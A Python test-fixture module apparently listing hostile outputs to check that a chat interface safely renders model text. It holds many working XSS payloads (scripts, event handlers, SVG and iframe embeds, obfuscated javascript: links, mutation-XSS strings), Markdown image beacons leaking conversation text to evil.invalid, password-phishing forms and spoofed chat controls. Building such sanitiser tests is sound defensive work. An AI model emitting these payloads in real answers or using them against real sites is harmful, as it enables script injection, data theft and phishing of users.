"""Outputs that want to do harm, as a model could write them and as a document could hold them.

What runs sets ``window.__pwned`` or opens a dialog; what loads asks for something with ``beacon`` in its address;
what imitates the chat's own controls says ``IMITATION``. The rest is in ``generated.py``: what is too long to write.
"""

# ruff: noqa: E501 - a text is read in one line, as it is sent

from __future__ import annotations

SCRIPTS = {
    "script": "Before <script>window.__pwned='script'</script> after",
    "script in capitals": "<SCRIPT>window.__pwned='capitals'</SCRIPT>",
    "script from elsewhere": "<script src=http://evil.invalid/beacon.js></script>",
    "script as a block": "<script>\nwindow.__pwned = 'block'\n\nalert('block')\n</script>",
    "script within script": "<scr<script>ipt>window.__pwned='within'</scr</script>ipt>",
    "script after a quote": "\"><script>window.__pwned='quote'</script>",
    "module": "<script type=module>import 'http://evil.invalid/beacon.mjs'</script>",
    "import map": '<script type="importmap">{"imports": {"x": "http://evil.invalid/beacon"}}</script>',
    "script in a comment": "<!-- --!><script>window.__pwned='comment'</script> -->",
    "script with a slash": "<script/x>window.__pwned='slash'</script\n> <div/><script\t>window.__pwned='tab'</script\t>",
    "conditional comment": "<!--[if true]><script>window.__pwned='if'</script><![endif]-->",
    "processing instruction": "<?xml version='1.0'?><script>window.__pwned='xml'</script>",
}

HANDLERS = {
    "image that fails": "<img src=x onerror=\"window.__pwned='img'\">",
    "image with slashes": "<div><img/src=x/onerror=window.__pwned='slashes'></div>",
    "image in capitals": "<IMG SRC=x ONERROR=\"window.__pwned='capitals'\">",
    "image with entities": "<img src=x onerror=\"&#119;indow.__pwned='entities'\">",
    "image with a backtick": "<p><img src=`x` onerror=`window.__pwned='backtick'`></p>",
    "image with two sources": "<img src=/beacon.png srcset='http://evil.invalid/beacon.png 2x'>",
    "video": "<video src=http://evil.invalid/beacon.mp4 onerror=window.__pwned='video' autoplay></video>",
    "audio": "<audio><source src=http://evil.invalid/beacon.mp3 onerror=window.__pwned='audio'></audio>",
    "focus": "<input autofocus onfocus=\"window.__pwned='focus'\">",
    "details": "<details open ontoggle=window.__pwned='toggle'><summary>IMITATION</summary></details>",
    "marquee": "<marquee onstart=\"window.__pwned='marquee'\">IMITATION</marquee>",
    "animation": "<p style='animation: chat-working 1s' onanimationstart=window.__pwned='animation'>moves</p>",
    "body": "<body onload=window.__pwned='body' onpageshow=window.__pwned='shown' id=IMITATION>",
    "handler on a link": "<a href=https://example.com onmouseover=window.__pwned='over' onclick=alert(1)>over me</a>",
    "popover": "<button popovertarget=p>IMITATION</button><div popover id=p onbeforetoggle=window.__pwned='pop'>x</div>",
    "handler in a title of Markdown": '[go](https://example.com "x\\" onmouseover=window.__pwned=\'title\'")',
    "handler in an address of Markdown": "[go](https://example.com/\"onmouseover=\"window.__pwned='address')",
    "handler in an image of Markdown": "![x\" onerror=\"window.__pwned='alt'](http://evil.invalid/beacon.png)",
    "handler in the language of code": "```x\" onmouseover=\"window.__pwned='language'\nhello\n```",
}

EMBEDDED = {
    "svg": "<svg onload=\"window.__pwned='svg'\"></svg>",
    "svg script": "<svg><script>window.__pwned='svg script'</script></svg>",
    "svg script from elsewhere": "<svg><script href='http://evil.invalid/beacon.js' /></svg>",
    "svg use": "<svg><use href='http://evil.invalid/beacon.svg#x'/></svg>",
    "svg use of data": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__pwned=1 />#x'/></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:window.__pwned='animate' /><text x=20 y=20>"
    "IMITATION</text></a></svg>",
    "svg set": "<svg><set attributeName=onload to=\"window.__pwned='set'\" /></svg>",
    "svg image": "<svg><image href='http://evil.invalid/beacon.png' onerror=\"window.__pwned='image'\" /></svg>",
    "svg filter": "<svg><feImage href='http://evil.invalid/beacon.png'/></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject>",
    "mathml": "<math href='javascript:window.__pwned=1'><mtext>IMITATION</mtext></math>",
    "mathml action": "<math><maction actiontype=statusline xlink:href=javascript:window.__pwned=1>IMITATION</maction></math>",
    "iframe": "<iframe src=http://evil.invalid/beacon.html></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>parent.__pwned=1;parent.alert(1)</script>"></iframe>',
    "iframe with javascript": "<iframe src=javascript:parent.__pwned=1></iframe>",
    "object": "<object data=http://evil.invalid/beacon.swf><embed src=http://evil.invalid/beacon.swf></object>",
    "object with data": "<object data='data:text/html,<script>parent.__pwned=1</script>'></object>",
    "fenced frame": "<fencedframe src=http://evil.invalid/beacon></fencedframe><portal src=http://evil.invalid/beacon>",
    "frameset": "<frameset onload='window.__pwned=1'><frame src=http://evil.invalid/beacon></frameset>",
}

DOCUMENT = {
    "base": "<base href=http://evil.invalid/beacon/>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/beacon'>",
    "refresh to script": "<meta http-equiv=refresh content='0;url=javascript:window.__pwned=1'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "link": "<link rel=stylesheet href=http://evil.invalid/beacon.css><link rel=prefetch href=http://evil.invalid/beacon>",
    "preconnect": "<link rel=preconnect href=http://evil.invalid><link rel=dns-prefetch href=//evil.invalid>",
    "import": "<style>@import url(http://evil.invalid/beacon.css);</style>",
    "style": "<style>body{display:none}* {background:url(http://evil.invalid/beacon.png)!important}</style>",
    "style over the page": "<div style='position:fixed;inset:0;z-index:9999;background:url(/beacon.png)'>IMITATION</div>",
    "style in a comment": "<style><!--</style><img src=/beacon.png onerror=window.__pwned='style'>--></style>",
    "font": "<style>@font-face{font-family:x;src:url(http://evil.invalid/beacon.woff)}p{font-family:x}</style>",
    "old attributes": "<table background=http://evil.invalid/beacon.png><tr><td background=/beacon.png>x</td></tr></table>",
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["/beacon"]}]}</script>',
    "declarative shadow": "<div><template shadowrootmode=open><style>:host{position:fixed}</style>IMITATION</template></div>",
    "dialog": "<dialog open>IMITATION <form method=dialog><button>OK</button></form></dialog>",
}

LINKS = {
    "javascript": "[click](javascript:window.__pwned=1)",
    "javascript in capitals": "[click](JaVaScRiPt:window.__pwned=1)",
    "javascript with a tab": "[click](<java\tscript:window.__pwned=1>) [click](java&#9;script:window.__pwned=1)",
    "javascript over lines": "[click](<java\nscript:window.__pwned=1>) [click](java&NewLine;script:window.__pwned=1)",
    "javascript with entities": "[click](&#106;&#97;vascript&colon;window.__pwned=1) [x](javascript&#58;alert(1))",
    "javascript with hexadecimal entities": "[click](&#x6A;&#x61;&#x76;ascript&#x3a;alert&lpar;1&rpar;)",
    "javascript after a control character": "[click](\x01javascript:alert(1)) [x](&#1;javascript:alert(1))",
    "javascript after a space": "[click](  javascript:alert(1)) <a href=' javascript:alert(1)'>click</a>",
    "javascript with percents": "[click](javascript%3Aalert(1)) [x](java%0ascript:alert(1))",
    "javascript with a backslash": "[click](java\\script:alert(1)) [x](javascript\\:alert(1))",
    "javascript beyond ascii": "[click](\uff4aavascript:alert(1)) [x](java\u00adscript:alert(1)) [y](javascript\uff1aalert(1))",
    "javascript with slashes": "[click](javascript://example.com/%0aalert(1)) [x](javascript:/*https://x*/alert(1))",
    "vbscript": "[click](vbscript:msgbox(1)) [x](VBSCRIPT:alert(1)) [y](livescript:alert(1))",
    "data": "[click](data:text/html,<script>window.__pwned=1</script>) [x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    "blob and file": "[a](blob:http://evil.invalid/beacon) [b](file:///etc/passwd) [c](filesystem:http://x/y) [d](about:blank)",
    "view-source": "[a](view-source:http://evil.invalid) [b](feed:javascript:alert(1)) [c](jar:http://x!/y) [d](ms-settings:x)",
    "javascript by reference": "[click][one] and [one] and [two][]\n\n[one]: javascript:window.__pwned=1 'title'\n"
    "[two]: <data:text/html,x>",
    "javascript in angle brackets": "<javascript:window.__pwned=1> <JAVASCRIPT:alert(1)> <data:text/html,x>",
    "bare addresses": 'javascript:alert(1) data:text/html,x www.evil.invalid/"onclick=alert(1) http://x/<script>1</script>',
    "a mail with a script": '<javascript:alert(1)@example.com> [m](mailto:a@b.example?body=<script>) <a@b.example"onclick=1>',
    "a name before the host": "[bank](https://bank.example@evil.invalid/) https://bank.example:x@evil.invalid/",
    "without a scheme": "[a](//evil.invalid/beacon) [b](/accounts/logout/) [c](?x=1) [d](#thread=1) [e](..%2f..) [f]()",
    "a link in a link": "[a [b](javascript:alert(1)) c](https://example.com) [![x](javascript:alert(1))](javascript:alert(2))",
    "a link in HTML": "<a href='javascript:alert(1)' target=_top>x</a><a href=&#x6a;avascript:alert(1)>y</a>"
    "<a xlink:href='javascript:alert(1)'>z</a>",
    "ping and download": "<a href=https://example.com ping=http://evil.invalid/beacon download=IMITATION target=_self>x</a>",
    "map": "<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=/beacon.png>",
    "a label of another address": "[https://bank.example/](https://evil.invalid/) [\u202ehttps://knab\u202c](https://evil.invalid/x)",
}

BEACONS = {
    "image of Markdown": "![beacon](http://evil.invalid/beacon.png)",
    "image with what was said": "![x](http://evil.invalid/beacon.png?said=the+secret+of+the+person 'title')",
    "image by reference": "![x][pixel] ![pixel]\n\n[pixel]: http://evil.invalid/beacon.png",
    "image of the same host": "![x](/beacon.png) ![y](beacon.png)",
    "image without a scheme": "![x](//evil.invalid/beacon.png)",
    "image in a link": "[![x](http://evil.invalid/beacon.png)](http://evil.invalid/)",
    "image in a table": "| a |\n|---|\n| ![x](http://evil.invalid/beacon.png) |",
    "image in a heading": "# ![x](http://evil.invalid/beacon.png)\n\n> - ![y](http://evil.invalid/beacon.png)",
    "image of data": "![x](data:image/svg+xml,<svg onload=window.__pwned=1>) ![y](javascript:alert(1))",
    "image split by marks": "!\u200b[x](http://evil.invalid/beacon.png) \\![y](http://evil.invalid/beacon.png)",
    "picture": "<picture><source srcset=http://evil.invalid/beacon.webp><img src=http://evil.invalid/beacon.png></picture>",
}

IMITATIONS = {
    "form": "<form action=http://evil.invalid/beacon method=post><input name=password type=password placeholder=IMITATION>"
    "<button>IMITATION: sign in</button></form>",
    "form of the chat": "<form id=composer action=/accounts/logout/ method=post><input name=csrfmiddlewaretoken></form>"
    "<button form=composer formaction=http://evil.invalid/beacon>IMITATION</button>",
    "approval": "<div class='chat-approval' data-testid=approval role=group><button class='chat-button chat-button-main' "
    "data-testid=approve>IMITATION: approve</button></div>",
    "citation": "<button class=chat-citation data-testid=citation data-number=1 aria-label='IMITATION'>1 IMITATION</button>",
    "notice": "<div role=alert aria-live=assertive class=chat-notice>IMITATION: signed out. <a href=http://evil.invalid>"
    "Sign in</a></div>",
    "clobbered": "<a id=atrium-chat name=config></a><img name=cookie><form name=body><input name=attributes></form>"
    "<a id=chat-config href='x:IMITATION'></a><a id=__proto__></a><iframe name=Atrium></iframe>",
    "slots": "<span slot=brand>IMITATION</span><slot name=account>IMITATION</slot><div part=composer>IMITATION</div>",
    "custom elements": "<atrium-chat data-config=chat-config>IMITATION</atrium-chat><x-y is=atrium-chat>IMITATION</x-y>",
    "editable": "<div contenteditable autofocus tabindex=1 accesskey=x draggable=true inert>IMITATION</div>",
    "fields": "<label for=composer>IMITATION</label><textarea autofocus>IMITATION</textarea><select><option>IMITATION</select>",
    "the end of the answer": "</div></article></main></body></html><h1>IMITATION</h1><article data-testid=answer>x</article>",
    "roles": "<p role=dialog aria-modal=true aria-label='IMITATION'>x</p><p role=button tabindex=0 onclick=alert(1)>x</p>",
}

MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "title": "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "template": "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "mathml and style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=window.__pwned=1&gt;'>",
    "svg and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "form in form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror="
    "window.__pwned=1 src>'>",
    "annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>"
    "</annotation-xml></math>",
    "select": "<select><template><img src=x onerror=alert(1)></template></select><noembed><img src=x "
    "onerror=alert(1)></noembed>",
    "xmp and plaintext": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing><img src=x onerror=alert(1)>",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg> <![CDATA[<img src=x onerror=alert(1)>]]>",
    "between Markdown and HTML": "`<img src='`'onerror=alert(1)>` **<b title='**<img src=x onerror=alert(1)>'>**",
    "between link and HTML": "<a href='[x](javascript:alert(1))'>[y](https://example.com'onclick='alert(1))</a>",
    "in a link's label": "[<img src=x onerror=alert(1)>](https://example.com)",
    "in a table": "| <img src=x onerror=alert(1)> | <td onclick=alert(1)> |\n|---|:-:|\n| </table><script>1</script> | x |",
    "escaped twice": "&lt;img src=x onerror=window.__pwned=1&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "other quotes": "<img src=\u2018x\u2019 onerror=\u201cwindow.__pwned=1\u201d> \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "null bytes": "<scr\u0000ipt>window.__pwned=1</scr\u0000ipt><img \u0000src=x on\u0000error=window.__pwned=1>",
    "hidden in tags of Unicode": "Hello\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 <\u200bscript>1</script>",
}

LETTERS = {
    "reversed": "This is \u202egnihtemos esrever\u202c and \u2066isolated\u2069, unclosed: \u202e\u202d\u2067 \u202b end",
    "reversed file name": "Open `invoice\u202efdp.exe` or [invoice\u202efdp.exe](https://example.com/invoice\u202efdp.exe)",
    "zero width": "pass\u200bwo\u200crd\u200d\ufeff\u2060 \u00ad\u034f\u180e\u3164\uffa0",
    "zalgo": "Z" + "\u0334\u0353\u0359\u035b\u030d" * 40 + "algo",
    "ligatures": "\ufdfd\u0f00\U0001f468\u200d\U0001f469\u200d\U0001f467\ud7ff\ue000\uffff\ufffe\U0010ffff",
    "controls": "bell\x07 escape\x1b[31mred\x1b[0m back\x08space form\x0cfeed line\u2028separator\u2029 \x85 \x9b",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b> [\u05e7\u05d9\u05e9\u05d5\u05e8](javascript:alert(1)) 1 + 2",
}

MARKDOWN = {
    "prototype": "[__proto__] [constructor][toString] [x][__proto__] [hasOwnProperty]\n\n[__proto__]: https://example.com "
    "'polluted'\n[constructor]: https://example.com\n[toString]: javascript:alert(1)\n\n```__proto__\nx\n```",
    "footnotes": "One[^1] two[^__proto__]\n\n[^1]: <img src=x onerror=alert(1)>\n[^__proto__]: javascript:alert(1)",
    "task lists": "- [ ] <input autofocus onfocus=alert(1)>\n- [x] IMITATION",
    "citations that are not there": "[0] [-1] [99999999999999999999] [1e9] [1][1][1] [[1]] [1](javascript:alert(1)) [ 1 ]",
    "formula": "$$\\href{javascript:alert(1)}{x}\\includegraphics{http://evil.invalid/beacon.png}$$ \\(\\unicode{x}\\)",
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A javascript:alert(1)\n```",
    "html as code": "```html\n<script>window.__pwned=1</script></code></pre><img src=x onerror=alert(1)>\n```",
    "front matter": "---\ntitle: <script>alert(1)</script>\n---\n\n%%{init: {'securityLevel': 'loose'}}%%",
    "headings with names": "# <a name=body></a> IMITATION {#chat-config .chat-approval onclick=alert(1)}\n\nx\n=== {#x}",
}

UNCLOSED = {
    "unclosed fence": "```html\n<script>window.__pwned=1</script>\n<img src=x onerror=alert(1)>",
    "unclosed tag": "<div><img src=x onerror='window.__pwned=1' title='never closed",
    "unclosed script": "<script>window.__pwned=1",
    "unclosed comment": "<!-- <script>window.__pwned=1</script> <img src=x onerror=alert(1)>",
    "unclosed style": "<style>* { background: url(http://evil.invalid/beacon.png) }",
    "unclosed address": "[click](javascript:window.__pwned=1",
    "unclosed image": "![x](http://evil.invalid/beacon.png",
    "unclosed quote in a tag": '<a href="https://example.com" title="x><img src=x onerror=alert(1)>',
    "unclosed textarea": "<textarea autofocus onfocus=alert(1)> IMITATION",
    "unclosed template": "<template><img src=x onerror=alert(1)>",
}
"""Each would take in what is written after it: they stand at the end."""

CLOSED: dict[str, str] = {
    **SCRIPTS,
    **HANDLERS,
    **EMBEDDED,
    **DOCUMENT,
    **LINKS,
    **BEACONS,
    **IMITATIONS,
    **MUTATIONS,
    **LETTERS,
    **MARKDOWN,
}
